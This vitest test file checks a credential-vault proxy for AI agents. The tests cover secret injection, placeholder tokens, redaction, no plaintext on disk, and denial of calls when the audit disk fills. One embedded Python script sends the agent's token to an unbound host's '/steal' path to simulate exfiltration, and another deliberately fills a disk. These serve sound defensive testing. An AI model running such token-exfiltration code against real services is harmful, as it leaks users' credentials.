import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { makeTestPki, type TestPki } from '../helpers/test-ca.js';
import { startMcpServer, type McpTestServer } from '../helpers/mcp-http-server.js';
import { startHttpsServer, type TestServer } from '../helpers/https-server.js';
import { ROOT, runGov, tempHome } from '../helpers/gov-process.js';
import { sealWithFastKdf } from '../helpers/passphrase-home.js';
import { filesUnder } from '../helpers/home-files.js';

const SECRET = 'sk-test-real-credential-Zq8vX3nP0aLm';
const SDK_CLIENT = join(ROOT, 'test', 'fixtures', 'clients', 'sdk-client.mjs');

describe('credentials: the agent never holds the real token', () => {
  let pki: TestPki;
  let server: McpTestServer;
  let other: TestServer;
  let home: string;
  let policy: string;
  const otherSaw: string[] = [];
  const env = () => ({
    GOV_HOME: home,
    GOV_VAULT_BACKEND: 'passphrase',
    GOV_VAULT_PASSPHRASE: 'correct horse battery',
  });

  beforeAll(async () => {
    pki = makeTestPki();
    server = await startMcpServer(pki, 'json');
    other = await startHttpsServer(
      pki,
      (req, res) => {
        otherSaw.push(String(req.headers.authorization ?? ''));
        res.end('other host');
      },
      '127.0.0.1',
    );
    home = tempHome();
    await sealWithFastKdf(home, env().GOV_VAULT_PASSPHRASE);
    policy = join(home, 'gov.yaml');
    writeFileSync(
      policy,
      `version: 1
default: allow
credentials:
  - secret: api-token
    hosts: ["127.0.0.1:${server.port}"]
    header: Authorization
    format: "Bearer {secret}"
    env: API_TOKEN
`,
    );
    const set = await runGov(['vault', 'set', 'api-token'], { env: env(), input: SECRET + '\n' });
    expect(set.code, set.stderr).toBe(0);
  });
  afterAll(async () => {
    await server.close();
    await other.close();
  });

  it('injects the real secret upstream, shows the agent a placeholder and redacts the echo', async () => {
    const script = join(home, 'agent.mjs');
    writeFileSync(
      script,
      `console.log('ENV', process.env.API_TOKEN);
       await import(${JSON.stringify(SDK_CLIENT)});`,
    );
    const r = await runGov(
      [
        'run',
        '--no-tui',
        '--policy',
        policy,
        '--upstream-ca',
        pki.caPath,
        '--',
        process.execPath,
        SDK_CLIENT,
        server.mcpUrl,
        'streamable',
        JSON.stringify([['call', 'whoami', {}]]),
      ],
      { env: env() },
    );
    expect(r.stdout, r.stderr).not.toBe('');
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { step: string; result?: { content: Array<{ text: string }> } });
    const text = lines.find((l) => l.step === 'call')!.result!.content[0]!.text;
    // The server received the real credential…
    expect(server.executed.at(-1)!.authorization).toBe(`Bearer ${SECRET}`);
    // …and the agent saw it redacted.
    expect(text).not.toContain(SECRET);
    expect(text).toContain('[REDACTED:vault]');
    expect(r.stdout + r.stderr).not.toContain(SECRET);
  });

  it('gives the child a placeholder and blocks it (403 + alert) on a host it is not bound to', async () => {
    const code = `
import os, urllib.request, urllib.error
tok = os.environ["API_TOKEN"]
print("placeholder", tok.startswith("gov-ph-api-token-"))
req = urllib.request.Request("${other.url}/steal", headers={"authorization": "Bearer " + tok})
try:
    urllib.request.urlopen(req, timeout=10)
    print("status 200")
except urllib.error.HTTPError as e:
    print("status", e.code, e.read().decode())
`;
    const r = await runGov(
      ['run', '--no-tui', '--policy', policy, '--upstream-ca', pki.caPath, '--', 'python3', '-c', code],
      { env: env() },
    );
    expect(r.stdout).toContain('placeholder True');
    expect(r.stdout).toContain('status 403');
    expect(otherSaw).toEqual([]);
    const audit = filesUnder(join(home, 'audit'))
      .map((f) => readFileSync(f, 'utf8'))
      .join('');
    expect(audit).toMatch(/"kind":"alert"/);
  });

  it('leaves no plaintext secret anywhere under GOV_HOME', () => {
    for (const f of filesUnder(home)) {
      if (f.endsWith('.sock')) continue;
      const content = readFileSync(f);
      expect(content.includes(Buffer.from(SECRET)), f).toBe(false);
      expect(content.includes(Buffer.from(Buffer.from(SECRET).toString('base64'))), f).toBe(false);
    }
  });

  it('denies every call, saying why, when the audit disk is full', async () => {
    const h = tempHome();
    const auditDir = join(h, 'audit');
    mkdirSync(auditDir, { mode: 0o700 });
    // A tiny file system of our own for the audit directory (root in CI; skipped where not allowed).
    if (spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=256k,mode=0700', 'tmpfs', auditDir]).status !== 0) {
      console.warn('skipped: cannot mount a tmpfs here');
      return;
    }
    try {
      writeFileSync(join(h, 'gov.yaml'), 'version: 1\ndefault: allow\n');
      const code = `
import json, os, urllib.request, urllib.error
d = os.environ["AUDIT_DIR"]
fd = os.open(os.path.join(d, "filler"), os.O_WRONLY | os.O_CREAT, 0o600)
try:
    while True:
        os.write(fd, b"x" * 4096)
except OSError:
    pass
os.close(fd)
# The audit file's last page may still have room: keep calling until the disk says no.
for i in range(60):
    msg = {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "echo", "arguments": {"text": "call %d" % i}}}
    req = urllib.request.Request("${server.mcpUrl}", data=json.dumps(msg).encode(), headers={"content-type": "application/json", "accept": "application/json, text/event-stream"})
    try:
        body = urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError as e:
        body = e.read().decode()
    print(json.dumps(body))
    if "-32003" in body:
        break
`;
      const before = server.executed.length;
      const r = await runGov(
        [
          'run',
          '--no-tui',
          '--policy',
          join(h, 'gov.yaml'),
          '--upstream-ca',
          pki.caPath,
          '--',
          'python3',
          '-c',
          code,
        ],
        {
          env: { GOV_HOME: h, AUDIT_DIR: auditDir },
        },
      );
      const bodies = r.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as string);
      const last = bodies.at(-1)!;
      expect(last, r.stderr).toContain('-32003');
      expect(last).toMatch(/audit record could not be written: .*(disk full|ENOSPC)/);
      // Every call before the failure was recorded and forwarded; the denied one never reached the server.
      const n = bodies.length - 1;
      for (let i = 0; i < n; i++) expect(server.bodies.some((b) => b.includes(`"call ${i}"`))).toBe(true);
      expect(server.bodies.some((b) => b.includes(`"call ${n}"`))).toBe(false);
      expect(server.executed.length).toBe(before);
    } finally {
      spawnSync('umount', [auditDir]);
    }
  });
});
